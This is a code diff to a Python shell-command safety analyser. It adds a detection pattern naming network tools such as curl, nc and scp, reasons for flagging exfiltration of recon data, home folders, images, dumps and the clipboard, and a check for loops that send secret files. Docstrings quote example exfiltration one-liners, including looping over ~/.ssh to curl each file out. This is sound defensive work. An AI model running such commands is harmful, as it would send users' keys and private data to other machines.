@@ -7,6 +7,7 @@ all reached by one iterative walk (nesting can be thousands deep). Shell code in
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 
 from tree_sitter import Node
@@ -14,6 +15,7 @@ from tree_sitter import Node
 from tui.core.safety import effects, resolve
 from tui.core.safety.context import MAX_DEPTH, MAX_REPARSES, Context
 from tui.core.safety.feeds import line_value, literal_output, stdin_for, trusted_setup
+from tui.core.safety.flow import secret_path
 from tui.core.safety.model import RiskLevel
 from tui.core.safety.nodes import (
     INTERACTIVE_EDITORS,
@@ -50,7 +52,39 @@ from tui.core.safety.words import SUBSTITUTED, Word, evaluate, literal, node_tex
 
 MAX_KIND_NODES = 20_000  # node visits to classify substitutions, per assessment
 MAX_CALLS = 16  # function bodies followed into, per assessment
+SENDING_CALLS = re.compile(r"\b(curl|wget|nc|ncat|scp|rsync|mail|mutt|dig|nslookup|http)\b")
+GATHERED_REASONS = {
+    "recon": "sends facts about this machine (users, network, system) to another machine",
+    "personal": "packs a folder of your home and sends it to another machine",
+    "image": "sends a container image (its code and any secrets built in) to another machine",
+    "database": "sends a database dump to another machine",
+    "clipboard": "sends what is on the clipboard (often a password) to another machine",
+}
 HISTORY_VARIABLES = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE"})
+
+
+def _last_command(body: Node | None) -> Node | None:
+    """The command a list's trailing redirections belong to (`a && b > f`: b), if simple."""
+    node = body
+    while node is not None and node.type == "list":
+        named = [child for child in node.children if child.is_named]
+        node = named[-1] if named else None
+    if node is None or body is None or body.type != "list" or node.type != "command":
+        return None
+    return node
+
+
+def _loop_over_secrets(node: Node) -> str | None:
+    """`for f in ~/.ssh/*; do curl -F "k=@$f" URL; done`: each secret file sent in turn."""
+    values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
+    body = node.child_by_field_name("body")
+    if body is None or not SENDING_CALLS.search(node_text(body)):
+        return None
+    for value in values:
+        what = secret_path(evaluate(value).value)
+        if what:
+            return f"sends {what} to another machine, one file at a time"
+    return None
 
 
 class Analyser:
@@ -206,9 +240,11 @@ class Analyser:
         body = node.child_by_field_name("body")
         if body is not None and body.type == "command":
             return  # the command picks up these redirections itself
-        tail = _last_of_list(body)
-        if tail is not None:  # `a && echo X > f`: tree-sitter hangs `> f` on the list
-            self._list_redirects[tail.id] = tuple(statement_redirects(node))
+        owner = _last_command(body)
+        if owner is not None:
+            # `cd /tmp && nc host 9 < f`: tree-sitter hangs `< f` on the list; bash gives it
+            # to the last command
+            self._list_redirects[owner.id] = tuple(statement_redirects(node))
             return
         reads: tuple[str, ...] = ()
         last: frozenset[str] = frozenset()  # what the last stage makes (decoded text, ...)
@@ -282,8 +318,20 @@ class Analyser:
                 node_text(node),
             )
 
+        self._gathered_flow(node, all_kinds)
+
+    def _gathered_flow(self, node: Node, all_kinds: list[set[str]]) -> None:
+        """`{ uname -a; id; } | curl --data-binary @-`, `zip -r - ~/Documents | curl -T -`."""
+        for kind, reason in GATHERED_REASONS.items():
+            # ssh and mail are how people move their own images, not their recon or files
+            takers = {"upload", "network", "send"} if kind == "image" else {"upload", "network"}
+            readers = [i for i, k in enumerate(all_kinds) if k & takers]
+            found = [i for i, kinds in enumerate(all_kinds) if kind in kinds]
+            if found and readers and min(found) < max(readers):
+                self.ctx.add(RiskLevel.HIGH, reason, node_text(node))
+
     def _loop_flow(self, node: Node) -> None:
-        reason = loop_flow(node, self.kinds_of)
+        reason = loop_flow(node, self.kinds_of) or _loop_over_secrets(node)
         if reason is not None:
             self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])
 
@@ -449,11 +497,3 @@ class Analyser:
 _REACHING_OUT = ("network", "download", "connect", "sends", "another machine", "not a command")
 # Variables whose value the shell runs as code again and again.
 PROMPT_HOOKS = frozenset(("PROMPT_COMMAND", "precmd_functions", "preexec_functions"))
-
-
-def _last_of_list(body: Node | None) -> Node | None:
-    """The last command of `a && b` / `a || b`: the one a trailing redirection belongs to."""
-    if body is None or body.type != "list":
-        return None
-    named = [child for child in body.children if child.is_named]
-    return named[-1] if named and named[-1].type == "command" else None
